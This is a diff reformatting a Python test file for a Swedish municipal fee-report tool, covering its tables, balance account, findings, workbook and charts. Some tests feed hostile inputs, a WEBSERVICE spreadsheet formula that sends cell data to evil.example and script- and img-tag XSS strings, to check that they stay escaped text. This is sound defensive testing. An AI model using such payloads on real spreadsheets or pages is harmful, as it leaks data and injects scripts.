@@ -1,21 +1,21 @@
 """Tests of the fee report (kuanalysis.reports.fees), the workbook (kuanalysis.reports.xlsx)
 and the chart functions they use. Expected values are worked out by hand in the comments."""
+
 from __future__ import annotations
 
 import datetime as dt
-
 import io
 import math
 import re
 import shutil
 
+import fees_fixtures as F
 import matplotlib
 import numpy as np
 import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
-import fees_fixtures as F
 from kuanalysis import publish
 from kuanalysis.checks.findings import Finding
 from kuanalysis.checks.rules import RULES
@@ -39,16 +39,18 @@ def lines(rows, year=2025):
 # Two scenarios, two municipalities, two posts.
 # forslag-2025: post A invoiced (X 60, Y 40), post B not invoiced (X 7, Y 3).
 # alt: post A invoiced (X 50, Y 50), post B invoiced (X 7, Y 3).
-FEES = lines([
-    ("forslag-2025", "0001", "X", "A", 60, True),
-    ("forslag-2025", "0002", "Y", "A", 40, True),
-    ("forslag-2025", "0001", "X", "B", 7, False),
-    ("forslag-2025", "0002", "Y", "B", 3, False),
-    ("alt", "0001", "X", "A", 50, True),
-    ("alt", "0002", "Y", "A", 50, True),
-    ("alt", "0001", "X", "B", 7, True),
-    ("alt", "0002", "Y", "B", 3, True),
-])
+FEES = lines(
+    [
+        ("forslag-2025", "0001", "X", "A", 60, True),
+        ("forslag-2025", "0002", "Y", "A", 40, True),
+        ("forslag-2025", "0001", "X", "B", 7, False),
+        ("forslag-2025", "0002", "Y", "B", 3, False),
+        ("alt", "0001", "X", "A", 50, True),
+        ("alt", "0002", "Y", "A", 50, True),
+        ("alt", "0001", "X", "B", 7, True),
+        ("alt", "0002", "Y", "B", 3, True),
+    ]
+)
 
 
 def cells(markup: str, tag: str = "td") -> list[str]:
@@ -92,7 +94,8 @@ def test_fee_report_refuses_bad_paths_and_dates_together():
     assert exc.value.errors == [
         "parametern scenarier: finns-inte finns inte i projektet",
         "parametern befolkningsdatum ska se ut som befolkning_ÅÅÅÅ_12_31 (eller vara tom), "
-        "fick '2024-12-31'"]
+        "fick '2024-12-31'",
+    ]
     with pytest.raises(ParameterError, match="befolkning_1999_12_31 finns inte"):
         fees.FeeReport.load(befolkningsdatum="befolkning_1999_12_31")
     with pytest.raises(ParameterError, match="saknar tabellen pks-2016-social-valfard"):
@@ -111,13 +114,16 @@ def test_fee_report_without_a_proposal_file(tmp_path):
     assert r.scenarios[0].balance.opening == 0  # the printed table says nothing about it
 
 
-@pytest.mark.parametrize("values, message", [
-    ({"balanskonto_kr": -2, "excelfil": "a.xlsx"}, "balanskonto_kr"),
-    ({"balanskonto_kr": True, "excelfil": "a.xlsx"}, "balanskonto_kr"),
-    ({"balanskonto_kr": 1.5, "excelfil": "a.xlsx"}, "balanskonto_kr"),
-    ({"balanskonto_kr": 0, "excelfil": "../a.xlsx"}, "excelfil"),
-    ({"balanskonto_kr": 0, "excelfil": "a.csv"}, "excelfil"),
-])
+@pytest.mark.parametrize(
+    "values, message",
+    [
+        ({"balanskonto_kr": -2, "excelfil": "a.xlsx"}, "balanskonto_kr"),
+        ({"balanskonto_kr": True, "excelfil": "a.xlsx"}, "balanskonto_kr"),
+        ({"balanskonto_kr": 1.5, "excelfil": "a.xlsx"}, "balanskonto_kr"),
+        ({"balanskonto_kr": 0, "excelfil": "../a.xlsx"}, "excelfil"),
+        ({"balanskonto_kr": 0, "excelfil": "a.csv"}, "excelfil"),
+    ],
+)
 def test_check_parameters_refuses(values, message):
     with pytest.raises(ParameterError, match=message):
         fees.check_parameters(**values)
@@ -197,23 +203,33 @@ def test_share_against_population():
 # ---------------------------------------------------------------------------------------
 def test_history_matches_by_code_keeps_printed_totals_and_blanks():
     # Social printed X, Y; administration printed Y, X (other order); a blank in 2016.
-    social = F._by_year("soc", ["X", "Y"], [[10, 20], [30, 40]], [40, 61])   # 61: printed
+    social = F._by_year("soc", ["X", "Y"], [[10, 20], [30, 40]], [40, 61])  # 61: printed
     admin = F._by_year("adm", ["Y", "X"], [[None, 5], [1, 2]], [1, 7])
-    meta = {"table": "m", "document": "t.txt", "kind": "fee_matrix", "unit": "kr",
-            "columns": [{"label": "Grundfinansiering Social välfärd", "key": "g"},
-                        {"label": "Medlemsavgift Kommunal utveckling", "key": "m"},
-                        {"label": "Summa", "key": "summa", "role": "total"}],
-            "rows": [{"label": "X", "role": "kommun", "kommun_kod": "0001"},
-                     {"label": "Y", "role": "kommun", "kommun_kod": "0002"},
-                     {"label": "Summa", "role": "total"}]}
-    matrix = Table.from_rows(meta, {"X": [1500, 2500, 4000], "Y": [500, 1500, 2000],
-                                    "Summa": [2000, 4000, 6000]})
+    meta = {
+        "table": "m",
+        "document": "t.txt",
+        "kind": "fee_matrix",
+        "unit": "kr",
+        "columns": [
+            {"label": "Grundfinansiering Social välfärd", "key": "g"},
+            {"label": "Medlemsavgift Kommunal utveckling", "key": "m"},
+            {"label": "Summa", "key": "summa", "role": "total"},
+        ],
+        "rows": [
+            {"label": "X", "role": "kommun", "kommun_kod": "0001"},
+            {"label": "Y", "role": "kommun", "kommun_kod": "0002"},
+            {"label": "Summa", "role": "total"},
+        ],
+    }
+    matrix = Table.from_rows(
+        meta, {"X": [1500, 2500, 4000], "Y": [500, 1500, 2000], "Summa": [2000, 4000, 6000]}
+    )
     h = fees.history_table(social, admin, matrix, 2025)
     assert list(h.index) == ["X", "Y", "Summa"]
     assert h.loc["X", "Social välfärd 2016"] == 10 and h.loc["Y", "Social välfärd 2018"] == 40
-    assert h.loc["Summa", "Social välfärd 2018"] == 61          # the printed total
-    assert h.loc["X", "Administration 2016"] == 1                # X's row, printed second
-    assert math.isnan(h.loc["Y", "Administration 2016"])         # blank stays blank
+    assert h.loc["Summa", "Social välfärd 2018"] == 61  # the printed total
+    assert h.loc["X", "Administration 2016"] == 1  # X's row, printed second
+    assert math.isnan(h.loc["Y", "Administration 2016"])  # blank stays blank
     assert h.loc["X", "Grundfinansiering social välfärd 2025"] == pytest.approx(1.5)  # kr->tkr
     assert h.loc["Summa", "Medlemsavgift 2025"] == pytest.approx(4.0)
 
@@ -222,15 +238,21 @@ def test_history_matches_by_code_keeps_printed_totals_and_blanks():
 # Balance account
 # ---------------------------------------------------------------------------------------
 def _scenario(name, from_balance_kr, years=(2025, 2026, 2027)):
-    posts = {"A": PostSpec("A", from_balance_kr, IMPLIED_KEY, False, None,
-                           from_balance_kr > 0, 1)}
-    return Scenario(name, f"{name}.yaml", "prov", posts, years=years,
-                    balance=Balance(20_500_000, {2025: 10_000_000}))
+    posts = {"A": PostSpec("A", from_balance_kr, IMPLIED_KEY, False, None, from_balance_kr > 0, 1)}
+    return Scenario(
+        name,
+        f"{name}.yaml",
+        "prov",
+        posts,
+        years=years,
+        balance=Balance(20_500_000, {2025: 10_000_000}),
+    )
 
 
 def test_balance_overview_runway():
     closing, summary = balance_overview(
-        [_scenario("tar", 9_000_000), _scenario("tar-inte", 0, (2025, 2026))])
+        [_scenario("tar", 9_000_000), _scenario("tar-inte", 0, (2025, 2026))]
+    )
     # 20,5 mnkr − 9 − 10 (2025 payout) = 1,5; then −7,5; then −16,5
     assert closing["tar"].tolist() == [1_500_000, -7_500_000, -16_500_000]
     # nothing taken: 20,5 − 10 = 10,5 and stays there; its years end in 2026 (NaN in 2027)
@@ -269,30 +291,42 @@ def _finding(rule, status, row="r", column="c", table="t"):
 
 
 def test_findings_overview_counts_and_sentences():
-    o = fees.findings_overview([
-        _finding("fee_row_total", "avrundning"), _finding("fee_not_summed", "oklar"),
-        _finding("fee_row_total", "avrundning"), _finding("fee_row_total", "avvikelse")])
+    o = fees.findings_overview(
+        [
+            _finding("fee_row_total", "avrundning"),
+            _finding("fee_not_summed", "oklar"),
+            _finding("fee_row_total", "avrundning"),
+            _finding("fee_row_total", "avvikelse"),
+        ]
+    )
     # the registry's order: fee_not_summed before fee_row_total
     assert o["Antal"].tolist() == [1, 2, 1]
     assert o["Kontroll"].iloc[0] == RULES["fee_not_summed"].sentence
     assert o["Kontroll"].iloc[0].startswith("Posten står i tabellen men ingår inte i kolumnen")
     # the status meanings are the registry's (checks/rules.py), one text for every report
-    assert o["Status"].tolist()[1:] == ["avrundning: skillnaden ryms i avrundningen, inget fel",
-                                        "avvikelse: fel som inte förklaras av avrundning"]
+    assert o["Status"].tolist()[1:] == [
+        "avrundning: skillnaden ryms i avrundningen, inget fel",
+        "avvikelse: fel som inte förklaras av avrundning",
+    ]
 
 
 def test_findings_frame_orders_by_rule_then_table_position():
     t = F.matrix()
-    found = [_finding("fee_row_total", "avrundning", "Y", "Summa", t.id),
-             _finding("fee_not_summed", "oklar", "Summa", F.GRUND, t.id),
-             _finding("fee_row_total", "avvikelse", "X", "Summa", t.id),
-             _finding("ambiguity", "oklar", "X", "", t.id),
-             _finding("fee_row_total", "avvikelse", "X", "Summa", "annan-tabell")]
+    found = [
+        _finding("fee_row_total", "avrundning", "Y", "Summa", t.id),
+        _finding("fee_not_summed", "oklar", "Summa", F.GRUND, t.id),
+        _finding("fee_row_total", "avvikelse", "X", "Summa", t.id),
+        _finding("ambiguity", "oklar", "X", "", t.id),
+        _finding("fee_row_total", "avvikelse", "X", "Summa", "annan-tabell"),
+    ]
     frame, marks = fees.findings_frame(found, t)
     # ambiguity comes before the fee rules in the registry; rows X before Y as in the table
     assert frame[["Rad", "Kolumn", "Status"]].values.tolist() == [
-        ["X", "", "oklar"], ["Summa", F.GRUND, "oklar"], ["X", "Summa", "avvikelse"],
-        ["Y", "Summa", "avrundning"]]
+        ["X", "", "oklar"],
+        ["Summa", F.GRUND, "oklar"],
+        ["X", "Summa", "avvikelse"],
+        ["Y", "Summa", "avrundning"],
+    ]
     assert frame["Tryckt"].isna().all()  # nothing to compare: blank, never 0
     assert marks["Status"].tolist() == frame["Status"].tolist()
     assert (marks.drop(columns="Status") == "").all().all()
@@ -302,35 +336,76 @@ def test_findings_of_the_tiny_proposal(report):
     # the Summa column adds up MEDLEM only: GRUND (100 kr) is shown but not summed; the two
     # posts split 60:40 and 70:30, so neither follows the other's key: each has its own
     assert [(f.rule, f.column, f.reported) for f in report.findings] == [
-        ("fee_own_key", F.GRUND, 100), ("fee_not_summed", F.GRUND, 100),
-        ("fee_own_key", F.MEDLEM, 1000)]
+        ("fee_own_key", F.GRUND, 100),
+        ("fee_not_summed", F.GRUND, 100),
+        ("fee_own_key", F.MEDLEM, 1000),
+    ]
     summary = fees.findings_summary(report)
-    assert cells(summary) == [RULES["fee_not_summed"].sentence,
-                              "oklar: oklart, behöver förklaras", "1",
-                              RULES["fee_own_key"].sentence,
-                              "oklar: oklart, behöver förklaras", "2"]
+    assert cells(summary) == [
+        RULES["fee_not_summed"].sentence,
+        "oklar: oklart, behöver förklaras",
+        "1",
+        RULES["fee_own_key"].sentence,
+        "oklar: oklart, behöver förklaras",
+        "2",
+    ]
     # the last column: no cell explains these findings
     assert cells(fees.findings_list(report)) == [
-        "Summa", F.GRUND, "100\u00a0kr", "–", "–", "oklar", "",
-        "Summa", F.MEDLEM, "1\u00a0000\u00a0kr", "–", "–", "oklar", "",
-        "Summa", F.GRUND, "100\u00a0kr", "–", "–", "oklar", ""]
+        "Summa",
+        F.GRUND,
+        "100\u00a0kr",
+        "–",
+        "–",
+        "oklar",
+        "",
+        "Summa",
+        F.MEDLEM,
+        "1\u00a0000\u00a0kr",
+        "–",
+        "–",
+        "oklar",
+        "",
+        "Summa",
+        F.GRUND,
+        "100\u00a0kr",
+        "–",
+        "–",
+        "oklar",
+        "",
+    ]
 
 
 # ---------------------------------------------------------------------------------------
 # Keys against population
 # ---------------------------------------------------------------------------------------
 def test_key_vs_population_two_groups():
-    meta = {"table": "m", "document": "t.txt", "kind": "fee_matrix", "unit": "kr",
-            "columns": [{"label": "A", "key": "a"}, {"label": "B", "key": "b"},
-                        {"label": "Summa", "key": "summa", "role": "total"}],
-            "rows": [{"label": "X", "role": "kommun", "kommun_kod": "0001"},
-                     {"label": "Y", "role": "kommun", "kommun_kod": "0002"},
-                     {"label": "Summa", "role": "total"}]}
+    meta = {
+        "table": "m",
+        "document": "t.txt",
+        "kind": "fee_matrix",
+        "unit": "kr",
+        "columns": [
+            {"label": "A", "key": "a"},
+            {"label": "B", "key": "b"},
+            {"label": "Summa", "key": "summa", "role": "total"},
+        ],
+        "rows": [
+            {"label": "X", "role": "kommun", "kommun_kod": "0001"},
+            {"label": "Y", "role": "kommun", "kommun_kod": "0002"},
+            {"label": "Summa", "role": "total"},
+        ],
+    }
     # A splits 70/30, B only X (Y blank). Population 2023: 60/40, 2024: 75/25.
-    matrix = Table.from_rows(meta, {"X": [70, 50, 120], "Y": [30, None, 30],
-                                    "Summa": [100, 50, 150]})
-    pop = pd.DataFrame({"kommun_kod": ["0001", "0002"], "befolkning_2023_12_31": [60, 40],
-                        "befolkning_2024_12_31": [75, 25]})
+    matrix = Table.from_rows(
+        meta, {"X": [70, 50, 120], "Y": [30, None, 30], "Summa": [100, 50, 150]}
+    )
+    pop = pd.DataFrame(
+        {
+            "kommun_kod": ["0001", "0002"],
+            "befolkning_2023_12_31": [60, 40],
+            "befolkning_2024_12_31": [75, 25],
+        }
+    )
     summary, dev = key_vs_population(matrix, pop)
     # A: 2023 off by 10 pp, 2024 off by 5 pp -> 2024, 5 pp; X 70 − 75 = −5, Y 30 − 25 = +5
     assert summary.loc["Nyckel 1"].tolist() == ["A", 2, "2024-12-31", pytest.approx(5.0)]
@@ -349,8 +424,10 @@ def test_key_panels_and_key_sections(report):
     summary, dev = key_vs_population(report.matrix, report.population, groups)
     panels = fees.key_panels(summary, dev, groups)
     assert list(panels) == ["Nyckel 1\n1 post, mot 2024-12-31", "Nyckel 2\n1 post, mot 2024-12-31"]
-    assert panels["Nyckel 1\n1 post, mot 2024-12-31"].tolist() == [pytest.approx(-15),
-                                                                   pytest.approx(15)]
+    assert panels["Nyckel 1\n1 post, mot 2024-12-31"].tolist() == [
+        pytest.approx(-15),
+        pytest.approx(15),
+    ]
     table = fees.key_groups_table(report)
     assert row_of(table, "Nyckel 1") == [F.MEDLEM, "2", "2024-12-31", "15,00\u00a0procentenheter"]
     assert row_of(table, "Nyckel 2")[-1] == "5,00\u00a0procentenheter"
@@ -376,8 +453,14 @@ def test_scenario_list_and_descriptions(report):
     frame = fees.scenario_descriptions(report.scenarios)
     assert frame.values.tolist() == [["forslag-2025", "Förslaget."], ["alt", "Ett alternativ."]]
     # both keep the printed totals (MEDLEM 1 000, GRUND 100): nothing differs
-    assert cells(fees.scenario_list(report)) == ["forslag-2025", "Förslaget.", "inga", "alt",
-                                                 "Ett alternativ.", "inga"]
+    assert cells(fees.scenario_list(report)) == [
+        "forslag-2025",
+        "Förslaget.",
+        "inga",
+        "alt",
+        "Ett alternativ.",
+        "inga",
+    ]
 
 
 def test_comparison_and_difference_tables(report):
@@ -414,13 +497,24 @@ def test_balance_table_and_chart(report):
     # 20 500 000 − 10 000 000 (2025 payout) − 100 = 10 499 900; 2026: − 100 more
     table = fees.balance_table(report, 20_500_000)
     assert row_of(table, "forslag-2025") == [
-        "100\u00a0kr", "10\u00a0499\u00a0900\u00a0kr", "10\u00a0499\u00a0800\u00a0kr",
-        "inte före 2027"]
-    assert row_of(table, "alt") == ["0\u00a0kr", "10\u00a0500\u00a0000\u00a0kr",
-                                    "10\u00a0500\u00a0000\u00a0kr", "inte före 2027"]
+        "100\u00a0kr",
+        "10\u00a0499\u00a0900\u00a0kr",
+        "10\u00a0499\u00a0800\u00a0kr",
+        "inte före 2027",
+    ]
+    assert row_of(table, "alt") == [
+        "0\u00a0kr",
+        "10\u00a0500\u00a0000\u00a0kr",
+        "10\u00a0500\u00a0000\u00a0kr",
+        "inte före 2027",
+    ]
     assert re.findall(r'<th scope="col">(.*?)</th>', table) == [
-        "Alternativ", "Tas från balanskontot första året", "Vid slutet av 2025",
-        "Vid slutet av 2026", "Första året under noll"]
+        "Alternativ",
+        "Tas från balanskontot första året",
+        "Vid slutet av 2025",
+        "Vid slutet av 2026",
+        "Första året under noll",
+    ]
     # 10 000 050 − 10 000 000 (2025 payout) − 100 = −50: below zero in 2025
     assert row_of(fees.balance_table(report, 10_000_050), "forslag-2025")[-1] == "2025"
     # without an argument the scenarios' own opening balance (20,5 mnkr) is used
@@ -440,7 +534,8 @@ def test_history_section(report):
 
 def test_workbook_link(report):
     assert fees.workbook_link(report, "avgifter-2025.xlsx") == (
-        '<p><a href="avgifter-2025.xlsx">Ladda ner avgifter-2025.xlsx</a> (5 blad).</p>')
+        '<p><a href="avgifter-2025.xlsx">Ladda ner avgifter-2025.xlsx</a> (5 blad).</p>'
+    )
     # Jämförelse, År 2025, År 2026 and one sheet per scenario
     assert fees.workbook_name(report) == "avgifter-2025.xlsx"
     assert fees.workbook_name(report, "egen.xlsx") == "egen.xlsx"
@@ -456,12 +551,22 @@ IMG_DESCRIPTION = '<img src="https://evil.example/x.png"> Som förslaget.'
 
 def test_hostile_names_and_descriptions_are_text_in_every_section():
     r = F.report(x_name=SCRIPT, alt_name=IMG_NAME, alt_description=IMG_DESCRIPTION)
-    shown = html.join([
-        fees.key_figures(r, 20_500_000), fees.findings_summary(r), fees.findings_list(r),
-        fees.key_groups_table(r), fees.scenario_list(r), fees.comparison_table(r),
-        fees.difference_table(r), fees.comparison_table(r, by="post"),
-        fees.difference_table(r, by="post"), fees.shares_table(r),
-        fees.balance_table(r, 20_500_000), fees.history(r)])
+    shown = html.join(
+        [
+            fees.key_figures(r, 20_500_000),
+            fees.findings_summary(r),
+            fees.findings_list(r),
+            fees.key_groups_table(r),
+            fees.scenario_list(r),
+            fees.comparison_table(r),
+            fees.difference_table(r),
+            fees.comparison_table(r, by="post"),
+            fees.difference_table(r, by="post"),
+            fees.shares_table(r),
+            fees.balance_table(r, 20_500_000),
+            fees.history(r),
+        ]
+    )
     assert "<script" not in shown and "<img" not in shown
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown
     assert "&lt;img src=x onerror=alert(1)&gt;" in shown
@@ -472,8 +577,10 @@ def test_hostile_names_and_descriptions_are_text_in_every_section():
 # Workbook
 # ---------------------------------------------------------------------------------------
 def _scenarios():
-    return [Scenario("forslag-2025", "f.yaml", "Förslaget.", {}),
-            Scenario("alt", "a.yaml", "Ett alternativ.", {})]
+    return [
+        Scenario("forslag-2025", "f.yaml", "Förslaget.", {}),
+        Scenario("alt", "a.yaml", "Ett alternativ.", {}),
+    ]
 
 
 def test_workbook(tmp_path, monkeypatch):
@@ -494,7 +601,7 @@ def test_workbook(tmp_path, monkeypatch):
     header = [c.value for c in s[4]]
     assert header[:4] == ["Kommun", "A", "B", "Fakturerat"]
     x = [c.value for c in s[5]]
-    assert x[:4] == ["X", 60, 7, 60]        # Fakturerat leaves out the not-invoiced B
+    assert x[:4] == ["X", 60, 7, 60]  # Fakturerat leaves out the not-invoiced B
     assert s["A2"].value == "Förslaget."
     found = [c.value for c in s["A"] if isinstance(c.value, str) and c.value.startswith("Fakt")]
     assert found == ["Faktureras inte: B"]
@@ -514,8 +621,15 @@ def test_sheet_title():
     assert len(xlsx.sheet_title("x" * 40)) == 31
 
 
-FORMULAS = ['=WEBSERVICE("https://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A2)",
-            "\t=1+1", "\r=1+1", "=1+1"]
+FORMULAS = [
+    '=WEBSERVICE("https://evil.example/?"&A1)',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
 
 
 def test_put_text_never_writes_a_formula(tmp_path):
@@ -525,7 +639,7 @@ def test_put_text_never_writes_a_formula(tmp_path):
     ws = wb.active
     for i, text in enumerate(FORMULAS, 1):
         xlsx.put_text(ws, i, 1, text)
-    xlsx.put_text(ws, len(FORMULAS) + 1, 1, "klocka\x07")   # a character xlsx cannot hold
+    xlsx.put_text(ws, len(FORMULAS) + 1, 1, "klocka\x07")  # a character xlsx cannot hold
     xlsx.put_number(ws, len(FORMULAS) + 2, 1, 3.0, xlsx.XLSX_KR)
     wb.save(tmp_path / "t.xlsx")
     again = load_workbook(tmp_path / "t.xlsx")
@@ -538,28 +652,37 @@ def test_put_text_never_writes_a_formula(tmp_path):
     number = again.active.cell(len(FORMULAS) + 2, 1)
     assert (number.value, number.data_type, number.number_format) == (3, "n", xlsx.XLSX_KR)
     import zipfile
+
     with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
         assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
 
 
 def test_workbook_hostile_texts_stay_text(tmp_path):
     evil = '=WEBSERVICE("https://evil.example/")'
-    fees_ = FEES.assign(kommun=FEES["kommun"].replace({"X": "=1+1"}),
-                        post=FEES["post"].replace({"A": "@A"}),
-                        scenario=FEES["scenario"].replace({"alt": "-alt"}))
+    fees_ = FEES.assign(
+        kommun=FEES["kommun"].replace({"X": "=1+1"}),
+        post=FEES["post"].replace({"A": "@A"}),
+        scenario=FEES["scenario"].replace({"alt": "-alt"}),
+    )
     data = xlsx.workbook(fees_, [Scenario("-alt", "a.yaml", evil, {})])
     (tmp_path / "w.xlsx").write_bytes(data)
     wb = load_workbook(tmp_path / "w.xlsx")
     texts = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
     assert {c.data_type for c in texts} == {"s"}
     values = {c.value for c in texts}
-    assert {evil, "=1+1", "@A", "-alt",
-            "Scenario -alt: avgift per kommun och post 2025, kr"} <= values
+    assert {
+        evil,
+        "=1+1",
+        "@A",
+        "-alt",
+        "Scenario -alt: avgift per kommun och post 2025, kr",
+    } <= values
     assert wb["-alt"]["A2"].value == evil
 
 
 def test_workbook_is_byte_identical_once_the_renderer_stamps_it(tmp_path):
     import time
+
     first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
     first.write_bytes(xlsx.workbook(FEES, _scenarios()[:1]))
     time.sleep(2.1)  # zip entry times have a two-second resolution
@@ -577,8 +700,13 @@ def test_workbook_is_byte_identical_once_the_renderer_stamps_it(tmp_path):
 # Charts
 # ---------------------------------------------------------------------------------------
 def test_panels_barh_one_panel_each_own_scale():
-    axes = charts.panels_barh(["X", "Y"], {"liten": [0.01, -0.02], "stor": [10, np.nan]},
-                              title="Prov (procentenheter)", unit="", decimals=2)
+    axes = charts.panels_barh(
+        ["X", "Y"],
+        {"liten": [0.01, -0.02], "stor": [10, np.nan]},
+        title="Prov (procentenheter)",
+        unit="",
+        decimals=2,
+    )
     assert len(axes) == 2
     assert axes[0].get_title(loc="left") == "liten"
     assert axes[1].get_xlim()[1] > 5 > axes[0].get_xlim()[1]
@@ -587,8 +715,9 @@ def test_panels_barh_one_panel_each_own_scale():
 
 
 def test_lines_draws_series_and_zero_line():
-    ax = charts.lines([2025, 2026], {"a": [1_500_000, -7_500_000], "b": [1, 1]},
-                      title="Saldo (kr)", unit="kr")
+    ax = charts.lines(
+        [2025, 2026], {"a": [1_500_000, -7_500_000], "b": [1, 1]}, title="Saldo (kr)", unit="kr"
+    )
     assert len(ax.get_lines()) == 3  # two series and y = 0
     assert ax.get_lines()[0].get_marker() != ax.get_lines()[1].get_marker()
     assert ax.yaxis.get_major_formatter()(-7_500_000) == "\u22127\u00a0500\u00a0000\u00a0kr"
